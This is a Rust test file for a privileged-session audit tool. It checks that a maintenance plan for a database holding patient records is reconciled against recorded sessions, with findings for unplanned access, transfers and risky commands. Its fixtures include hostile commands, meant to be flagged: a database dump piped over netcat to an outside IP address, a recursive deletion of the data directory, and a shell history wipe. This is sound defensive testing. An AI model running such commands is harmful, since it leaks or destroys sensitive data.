use chrono::{DateTime, TimeZone, Utc};
use uuid::Uuid;

use super::*;
use crate::plan::Allowances;
use crate::risk::CommandPattern;
use crate::transfer::ContentKind;

fn at(h: u32, m: u32, s: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 26, h, m, s).unwrap()
}

fn minutes(m: i64) -> TimeDelta {
    TimeDelta::minutes(m)
}

fn step(number: u32, text: &str, expected: &[&str]) -> PlannedStep {
    PlannedStep {
        number,
        text: text.to_owned(),
        expected: expected
            .iter()
            .map(|p| CommandPattern::parse(p).unwrap())
            .collect(),
    }
}

/// A plan that `session()` follows to the letter: no finding.
fn plan() -> PlanFacts {
    PlanFacts {
        id: PlanId::from_uuid(Uuid::from_u128(1)),
        kind: PlanKind::Normal,
        vendor: "acme".parse().unwrap(),
        engineers: vec!["alice".parse().unwrap()],
        targets: vec!["db01".parse().unwrap()],
        starts_at: at(1, 0, 0),
        ends_at: at(5, 0, 0),
        purpose: "PostgreSQL 16 minor upgrade".to_owned(),
        steps: vec![
            step(1, "dump the database before upgrading", &["pg_dump *"]),
            step(2, "restart PostgreSQL", &["systemctl restart postgresql*"]),
            step(3, "check the logs", &[]),
            step(
                4,
                "delete the dump",
                &["shred -u /tmp/his.dump", "rm -f /tmp/his.dump"],
            ),
        ],
        personal_data: Some("the dump holds patient records".to_owned()),
        allow: Allowances {
            download: true,
            ..Allowances::default()
        },
        data_deletion: DataDeletion {
            required: true,
            attestation: Some(Attestation {
                by: "alice".parse().unwrap(),
                at: at(3, 0, 0),
                statement: "/tmp/his.dump shredded; the downloaded copy deleted".to_owned(),
            }),
        },
    }
}

fn command(offset: i64, text: &str) -> CommandFact {
    CommandFact {
        offset: minutes(offset),
        text: text.to_owned(),
        uncertain: false,
    }
}

fn transfer(direction: Direction, outcome: TransferOutcome) -> TransferFact {
    TransferFact {
        offset: minutes(30),
        direction,
        path: "/tmp/his.dump".to_owned(),
        size: Some(1 << 20),
        sha256: Some("ab".repeat(32)),
        content: None,
        outcome,
    }
}

fn forward(outcome: ForwardOutcome) -> ForwardFact {
    ForwardFact {
        offset: minutes(40),
        host: "localhost".to_owned(),
        port: 5432,
        outcome,
    }
}

fn session() -> SessionFacts {
    SessionFacts {
        id: SessionId::from_uuid(Uuid::from_u128(10)),
        engineer: "alice".parse().unwrap(),
        target: "db01".parse().unwrap(),
        personal_data_target: true,
        emergency: false,
        started_at: at(1, 10, 0),
        end: Some(SessionEnd {
            at: at(2, 0, 0),
            reason: EndReason::Normal,
            note: None,
        }),
        commands: vec![
            command(1, "sudo -u postgres pg_dump his > /tmp/his.dump"),
            command(5, "sudo systemctl restart postgresql-16"),
            command(6, "tail -n 100 /var/log/messages"),
            command(45, "shred -u /tmp/his.dump"),
        ],
        transfers: vec![transfer(Direction::Download, TransferOutcome::Completed)],
        forwards: vec![],
        violations: vec![],
        resumed_desktop: None,
    }
}

type Change = fn(&mut PlanFacts, &mut Vec<SessionFacts>);

fn first(sessions: &mut [SessionFacts]) -> &mut SessionFacts {
    sessions.first_mut().unwrap()
}

fn end_with(sessions: &mut [SessionFacts], reason: EndReason) {
    if let Some(end) = first(sessions).end.as_mut() {
        end.reason = reason;
        end.note = Some("operator note".to_owned());
    }
}

use FindingKind as K;
use Severity as S;

/// One case per finding kind (some kinds several), and the clean plan.
/// A finding as the table expects it: kind, severity, requirement.
type Expected = (FindingKind, Severity, &'static str);

const CASES: &[(&str, Change, &[Expected])] = &[
    ("clean plan", |_, _| {}, &[]),
    (
        "no session at all",
        |_, s| s.clear(),
        &[(K::PlanNotUsed, S::Info, "R-10-5")],
    ),
    (
        "emergency session",
        |_, s| first(s).emergency = true,
        &[(K::EmergencyAccess, S::High, "R-10.1-APPROVE")],
    ),
    (
        "emergency plan, every session is emergency access",
        |p, _| p.kind = PlanKind::Emergency,
        &[(K::EmergencyAccess, S::High, "R-10.1-APPROVE")],
    ),
    (
        "unused emergency plan",
        |p, s| {
            p.kind = PlanKind::Emergency;
            s.clear();
        },
        &[
            (K::PlanNotUsed, S::Info, "R-10-5"),
            (K::EmergencyAccess, S::High, "R-10.1-APPROVE"),
        ],
    ),
    (
        "engineer not in the plan",
        |_, s| first(s).engineer = "mallory".parse().unwrap(),
        &[(K::EngineerNotInPlan, S::High, "R-10.1-APPROVE")],
    ),
    (
        "target not in the plan",
        |_, s| {
            first(s).target = "web01".parse().unwrap();
            first(s).personal_data_target = false;
        },
        &[(K::TargetNotInPlan, S::High, "R-10.1-APPROVE")],
    ),
    (
        "started before the window",
        |_, s| first(s).started_at = at(0, 50, 0),
        &[(K::SessionOutsideWindow, S::High, "R-7-12")],
    ),
    (
        "started at the window's end (exclusive)",
        |_, s| {
            first(s).started_at = at(5, 0, 0);
            first(s).end = Some(SessionEnd {
                at: at(5, 0, 1),
                reason: EndReason::Normal,
                note: None,
            });
        },
        &[(K::SessionOutsideWindow, S::High, "R-7-12")],
    ),
    (
        "outlasted the window",
        |_, s| {
            if let Some(end) = first(s).end.as_mut() {
                end.at = at(5, 10, 0);
            }
        },
        &[(K::SessionOutsideWindow, S::High, "R-7-12")],
    ),
    (
        "cut within the grace after the window",
        |_, s| {
            if let Some(end) = first(s).end.as_mut() {
                end.at = at(5, 0, 30);
            }
        },
        &[],
    ),
    (
        "personal-data target, no personal data declared",
        |p, _| p.personal_data = None,
        &[(K::PersonalDataTargetNotDeclared, S::High, "R-10-2")],
    ),
    (
        "risky command no step expects",
        |_, s| {
            first(s)
                .commands
                .push(command(50, "sudo rm -rf /var/lib/pgsql/16/data"))
        },
        &[
            (K::RiskyCommandNotCovered, S::Medium, "R-10-4"),
            (K::RiskyCommandNotCovered, S::Critical, "R-10-4"),
        ],
    ),
    (
        "planned command piped to an unplanned one",
        |_, s| {
            first(s)
                .commands
                .push(command(50, "pg_dump his | nc 203.0.113.5 9000"))
        },
        &[(K::RiskyCommandNotCovered, S::High, "R-10.2-PATH")],
    ),
    (
        "uncertain command",
        |_, s| {
            first(s).commands.push(CommandFact {
                uncertain: true,
                ..command(7, "ls /tmp")
            })
        },
        &[(K::UncertainCommand, S::Info, "R-10-3")],
    ),
    (
        "download the plan does not allow",
        |p, _| p.allow.download = false,
        &[(K::TransferNotDeclared, S::High, "R-10-2")],
    ),
    (
        "aborted upload the plan does not allow",
        |_, s| {
            first(s)
                .transfers
                .push(transfer(Direction::Upload, TransferOutcome::Aborted))
        },
        &[(K::TransferNotDeclared, S::High, "R-10-6")],
    ),
    (
        "uploaded content kind not declared",
        |p, s| {
            p.allow.upload = true;
            first(s).transfers.push(TransferFact {
                content: Some(ContentKind::Executable),
                ..transfer(Direction::Upload, TransferOutcome::Completed)
            });
        },
        &[(K::TransferNotDeclared, S::High, "R-10-6")],
    ),
    (
        "declared upload",
        |p, s| {
            p.allow.upload = true;
            p.allow.content = p.allow.content.with(ContentKind::Executable);
            first(s).transfers.push(TransferFact {
                content: Some(ContentKind::Executable),
                ..transfer(Direction::Upload, TransferOutcome::Completed)
            });
        },
        &[],
    ),
    (
        "refused upload attempt",
        |_, s| {
            first(s).transfers.push(transfer(
                Direction::Upload,
                TransferOutcome::Refused {
                    reason: "upload_not_allowed".to_owned(),
                },
            ))
        },
        &[(K::TransferRefused, S::Info, "R-10-6")],
    ),
    (
        "forward the plan does not allow",
        |_, s| first(s).forwards.push(forward(ForwardOutcome::Opened)),
        &[(K::ForwardNotDeclared, S::High, "R-13-7")],
    ),
    (
        "declared forward",
        |p, s| {
            p.allow.forward = true;
            first(s).forwards.push(forward(ForwardOutcome::Opened));
        },
        &[],
    ),
    (
        "refused forward attempt",
        |_, s| {
            first(s).forwards.push(forward(ForwardOutcome::Refused {
                reason: "not_in_plan".to_owned(),
            }))
        },
        &[(K::ForwardRefused, S::Info, "R-13-7")],
    ),
    (
        "a client broke the SFTP protocol",
        |_, s| {
            first(s).violations.push(ViolationFact {
                offset: minutes(3),
                protocol: "sftp".to_owned(),
                reason: "duplicate_request_id".to_owned(),
            })
        },
        &[(K::ProtocolViolation, S::High, "R-10-6")],
    ),
    (
        "an RDP session may have resumed a desktop another session left",
        |_, s| {
            first(s).resumed_desktop = Some(LeftDesktop {
                session: "0192f0c4-8a3e-7c1b-9d2e-5f6a7b8c9d0e".to_owned(),
                engineer: "bob".to_owned(),
                end: "killed".to_owned(),
            })
        },
        &[(K::DesktopMayBeResumed, S::Medium, "R-10.2-REVIEW")],
    ),
    (
        "killed",
        |_, s| end_with(s, EndReason::Killed),
        &[(K::SessionKilled, S::Medium, "R-10.2-REVIEW")],
    ),
    (
        "idle time-out",
        |_, s| end_with(s, EndReason::Idle),
        &[(K::SessionTimedOut, S::Low, "R-10.2-TIMEOUT")],
    ),
    (
        "cut at the window's end",
        |_, s| end_with(s, EndReason::WindowEnd),
        &[(K::SessionTimedOut, S::Low, "R-10.2-TIMEOUT")],
    ),
    (
        "cut at the maximum length",
        |_, s| end_with(s, EndReason::MaxLength),
        &[(K::SessionTimedOut, S::Low, "R-10.2-TIMEOUT")],
    ),
    (
        "ended in an error",
        |_, s| end_with(s, EndReason::Error),
        &[(K::SessionError, S::Medium, "R-17-1")],
    ),
    (
        "no end recorded",
        |_, s| first(s).end = None,
        &[(K::SessionError, S::Medium, "R-17-1")],
    ),
    (
        "planned step without evidence",
        |_, s| first(s).commands.retain(|c| !c.text.contains("restart")),
        &[(K::PlannedStepWithoutEvidence, S::Low, "R-10-5")],
    ),
    (
        "deletion step not attested",
        |p, _| p.data_deletion.attestation = None,
        &[(K::DataDeletionNotAttested, S::High, "R-10-1")],
    ),
    (
        "personal data declared: deletion expected even without a step",
        |p, _| {
            p.data_deletion = DataDeletion {
                required: false,
                attestation: None,
            }
        },
        &[(K::DataDeletionNotAttested, S::High, "R-10-1")],
    ),
    (
        "no personal data, no deletion step: nothing to attest",
        |p, s| {
            p.personal_data = None;
            p.data_deletion = DataDeletion::default();
            first(s).personal_data_target = false;
        },
        &[],
    ),
];

#[test]
fn reconciliation_table() {
    let rules = RuleSet::shipped();
    for (name, change, expected) in CASES {
        let mut p = plan();
        let mut sessions = vec![session()];
        change(&mut p, &mut sessions);
        let result = reconcile(&p, &sessions, &rules);
        let got: Vec<Expected> = result
            .findings
            .iter()
            .map(|f| (f.kind, f.severity, f.requirement))
            .collect();
        assert_eq!(got, *expected, "{name}: {:#?}", result.findings);
        for f in &result.findings {
            assert!(crate::requirement::known(f.requirement).is_some(), "{name}");
            assert!(
                !f.message_ja.is_empty() && !f.message_en.is_empty(),
                "{name}"
            );
        }
        assert_eq!(result.is_clean(), expected.is_empty(), "{name}");
    }
}

#[test]
fn every_finding_kind_has_a_case() {
    for kind in FindingKind::ALL {
        assert!(
            CASES
                .iter()
                .any(|(_, _, expected)| expected.iter().any(|(k, _, _)| *k == kind)),
            "no case for {kind}"
        );
    }
}

#[test]
fn evidence_points_into_the_recording() {
    let rules = RuleSet::shipped();
    let mut s = session();
    s.commands
        .push(command(50, "sudo rm -rf /var/lib/pgsql/16/data"));
    if let Some(end) = s.end.as_mut() {
        end.at = at(5, 10, 0);
    }
    let result = reconcile(&plan(), &[s.clone()], &rules);

    let risky = result
        .findings
        .iter()
        .find(|f| f.kind == FindingKind::RiskyCommandNotCovered)
        .unwrap();
    assert_eq!(risky.evidence.session, Some(s.id));
    assert_eq!(risky.evidence.offset, Some(minutes(50)));
    let Subject::Command { text, risk, .. } = &risky.evidence.subject else {
        panic!("{risky:?}");
    };
    assert_eq!(text, "sudo rm -rf /var/lib/pgsql/16/data");
    let risk = risk.as_ref().unwrap();
    assert_eq!(risk.rule.as_str(), "rm-recursive");
    assert_eq!(risk.command, "rm -rf /var/lib/pgsql/16/data");
    assert!(risky.message_en.contains("rm -rf /var/lib/pgsql/16/data"));

    // The window closed 3 h 50 min into the recording.
    let late = result
        .findings
        .iter()
        .find(|f| f.kind == FindingKind::SessionOutsideWindow)
        .unwrap();
    assert_eq!(late.evidence.offset, Some(minutes(230)));
    assert!(
        late.message_ja.contains("2026-11-26 14:00 JST"),
        "{}",
        late.message_ja
    );

    // By offset: the command at 50 min before the window's end at 230 min.
    let kinds: Vec<FindingKind> = result.findings.iter().map(|f| f.kind).collect();
    assert_eq!(
        kinds,
        [
            FindingKind::RiskyCommandNotCovered,
            FindingKind::RiskyCommandNotCovered,
            FindingKind::SessionOutsideWindow,
        ]
    );
    assert_eq!(result.highest_severity(), Some(Severity::Critical));
}

#[test]
fn steps_map_to_their_commands() {
    let result = reconcile(&plan(), &[session()], &RuleSet::shipped());
    let commands: Vec<(u32, Vec<&str>)> = result
        .steps
        .iter()
        .map(|s| {
            (
                s.number,
                s.commands.iter().map(|c| c.text.as_str()).collect(),
            )
        })
        .collect();
    assert_eq!(
        commands,
        [
            (1, vec!["sudo -u postgres pg_dump his > /tmp/his.dump"]),
            (2, vec!["sudo systemctl restart postgresql-16"]),
            (3, vec![]),
            (4, vec!["shred -u /tmp/his.dump"]),
        ]
    );
    let third = result.steps.get(2).unwrap();
    assert!(
        third.expected.is_empty(),
        "not checkable, and no finding for it"
    );
    let first = result.steps.first().unwrap();
    assert_eq!(first.expected, ["pg_dump *"]);
    let cmd = first.commands.first().unwrap();
    assert_eq!((cmd.session, cmd.offset), (session().id, minutes(1)));
}

#[test]
fn order_does_not_depend_on_the_input_order() {
    let rules = RuleSet::shipped();
    let mut p = plan();
    p.data_deletion.attestation = None;
    let mut early = session();
    early.emergency = true;
    early.commands.reverse();
    early.commands.push(command(0, "history -c"));
    let mut late = session();
    late.id = SessionId::from_uuid(Uuid::from_u128(11));
    late.started_at = at(3, 0, 0);
    late.end = None;
    late.forwards.push(forward(ForwardOutcome::Opened));

    let a = reconcile(&p, &[early.clone(), late.clone()], &rules);
    let b = reconcile(&p, &[late.clone(), early.clone()], &rules);
    assert_eq!(a, b);
    let order: Vec<(Option<SessionId>, FindingKind)> = a
        .findings
        .iter()
        .map(|f| (f.evidence.session, f.kind))
        .collect();
    assert_eq!(
        order,
        [
            (None, FindingKind::DataDeletionNotAttested),
            (Some(early.id), FindingKind::EmergencyAccess),
            (Some(early.id), FindingKind::RiskyCommandNotCovered),
            (Some(late.id), FindingKind::ForwardNotDeclared),
            (Some(late.id), FindingKind::SessionError),
        ]
    );
    // Step evidence follows session start, then offset, too.
    let step1 = a.steps.first().unwrap();
    let sessions: Vec<SessionId> = step1.commands.iter().map(|c| c.session).collect();
    assert_eq!(sessions, [early.id, late.id]);
}

#[test]
fn undeclared_personal_data_is_one_finding_per_target_naming_its_sessions() {
    let mut plan = plan();
    plan.personal_data = None;
    let mut a = session();
    let mut b = session();
    b.id = SessionId::from_uuid(Uuid::from_u128(11));
    b.started_at = a.started_at + TimeDelta::minutes(5);
    a.personal_data_target = true;
    b.personal_data_target = true;
    let r = reconcile(&plan, &[a.clone(), b.clone()], &RuleSet::shipped());
    let personal: Vec<&Finding> = r
        .findings
        .iter()
        .filter(|f| f.kind == FindingKind::PersonalDataTargetNotDeclared)
        .collect();
    assert_eq!(personal.len(), 1, "{personal:?}");
    assert!(
        personal[0].message_en.contains("2 sessions"),
        "{personal:?}"
    );
    assert!(personal[0].message_en.contains(&a.id.to_string()));
    assert!(personal[0].message_en.contains(&b.id.to_string()));
    assert_eq!(personal[0].evidence.session, Some(a.id));
}
